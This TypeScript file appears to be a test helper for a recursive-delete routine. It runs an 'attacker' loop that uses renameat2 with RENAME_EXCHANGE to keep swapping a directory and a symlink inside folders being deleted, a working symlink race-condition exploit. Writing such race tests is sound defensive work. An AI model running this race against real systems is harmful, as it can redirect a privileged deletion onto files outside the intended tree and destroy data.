import { readdirSync } from "node:fs";
import { join } from "node:path";
import { openLibc } from "./swapper.ts";

/**
 * An attacker that waits for folders that are being deleted: in every folder that turns up in DIR it exchanges `dir` and
 * `link` as fast as it can. Run as a program: `doomed-swapper.ts DIR`; ends with its standard input.
 */
const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;
const [dir = ""] = process.argv.slice(2);
const libc = openLibc();
process.stdin.on("end", () => process.exit(0));
process.stdin.resume();
process.stdout.write("waiting\n");
for (;;) {
  const names = (() => {
    try {
      return readdirSync(dir);
    } catch {
      return [];
    }
  })();
  for (const name of names) {
    const a = Buffer.from(`${join(dir, name, "dir")}\0`);
    const b = Buffer.from(`${join(dir, name, "link")}\0`);
    for (let n = 0; n <= 100; n++) {
      if (libc.symbols.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) !== 0) break;
    }
  }
  await new Promise((resolve) => setImmediate(resolve));
}
